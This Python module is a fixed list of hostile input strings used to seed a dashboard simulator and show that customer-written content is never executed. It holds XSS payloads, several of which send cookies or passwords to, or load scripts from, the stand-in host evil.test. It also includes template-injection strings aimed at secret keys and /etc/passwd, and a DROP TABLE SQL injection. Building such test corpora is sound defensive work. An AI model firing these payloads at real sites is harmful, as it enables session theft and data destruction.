"""A fixed corpus of hostile strings for the `hostile=True` seed.

The dashboard renders ticket content, names and tags that any customer can write, so the
simulator can fill its data with these vectors to prove that nothing is ever executed or
interpreted. The list is fixed (no randomness) so a test can point at any vector by index.
"""

from __future__ import annotations

_SCRIPT = [
    "<script>alert(1)</script>",
    "<script src=https://evil.test/x.js></script>",
    "<SCRIPT>alert('XSS')</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>document.location='https://evil.test/?c='+document.cookie</script>",
    "<script type=module>import('https://evil.test/m.js')</script>",
    "</script><script>alert(document.domain)</script>",
    "<script>/*</script><svg onload=alert(1)>*/</script>",
]

_EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(\'img\')">',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>scroll</marquee>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<p onclick=alert(1)>click</p>",
    "<a onmouseenter=alert(1)>enter</a>",
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    "<iframe onload=alert(1)></iframe>",
    "<object data=x onerror=alert(1)></object>",
    "<style onload=alert(1)></style>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
]

_URLS = [
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href="  javascript:alert(1)">leading spaces</a>',
    '<a href="java&#x09;script:alert(1)">tab entity</a>',
    '<a href="java\tscript:alert(1)">raw tab</a>',
    '<a href="&#106;avascript:alert(1)">decimal entity</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data html</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<embed src="javascript:alert(1)">',
    '<object data="javascript:alert(1)"></object>',
    '<img src="javascript:alert(1)">',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<img src="https://tracker.evil.test/pixel.gif?u=1" width=1 height=1>',
    "javascript:alert(document.cookie)",
    "data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
]

_SVG_MATH = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)' /></svg>#x\"></use></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg/onload=alert(1)>",
    '<math href="javascript:alert(1)">CLICK</math>',
]

_BROKEN = [
    "<img src=x onerror=alert(1)//",
    "<<script>alert(1);//<</script>",
    '<img """><script>alert(1)</script>">',
    '<div style="background:url(javascript:alert(1))">',
    '<div style="width:expression(alert(1))">',
    '<p title="</p><script>alert(1)</script>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<style></style><script>alert(1)</script>",
    '<table><td background="javascript:alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<a/href=javascript&colon;alert(1)>colon entity</a>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
]

_ENCODED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u003cimg src=x onerror=alert(1)\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">hex</a>',
]

_ATTRIBUTE_BREAKOUTS = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    "`><img src=x onerror=alert(1)>",
    '"></textarea><script>alert(1)</script>',
    '"/><svg onload=alert(1)>',
    "' style='position:fixed;top:0;left:0;width:100%;height:100%' onmouseover='alert(1)",
    '"; alert(1); var x="',
    "'; alert(1); var x='",
    "</title><script>alert(1)</script>",
    '"><iframe src=javascript:alert(1)>',
    'x" hx-get="/admin/delete" hx-trigger="load',
    "x' hx-on:click='alert(1)",
    '<div hx-get="https://evil.test" hx-trigger="load">htmx</div>',
]

_TEMPLATES = [
    "{{7*7}}",
    "{{ 7*7 }}",
    "{% debug %}",
    "{% load log %}{% get_admin_log 10 as log %}",
    "{{ settings.SECRET_KEY }}",
    "{{request.user}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "[[7*7]]",
    "{{csrf_token}}",
]

_MISC = [
    "Robert'); DROP TABLE wp_fs_tickets;--",
    "' OR '1'='1",
    "\u202eevil.exe\u202dtxt.pdf",
    "zero\u200bwidth\u200bspaces",
    "\x00null byte",
    "a" * 300 + "<script>alert('long')</script>",
    "line1\r\nSet-Cookie: pwned=1",
    '<h1 style="font-size:500px">HUGE</h1>',
    '<a href="https://evil.test" target="_blank">tabnabbing</a>',
    '<img src="//evil.test/x.png">',
    '<form method=post action="https://evil.test/steal"><input name=password></form>',
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Fake login</div>',
]

#: Every hostile string the `hostile=True` seed places into the data, in a fixed order.
VECTORS: list[str] = list(
    dict.fromkeys(
        [
            *_SCRIPT,
            *_EVENT_HANDLERS,
            *_URLS,
            *_SVG_MATH,
            *_BROKEN,
            *_ENCODED,
            *_ATTRIBUTE_BREAKOUTS,
            *_TEMPLATES,
            *_MISC,
        ]
    )
)
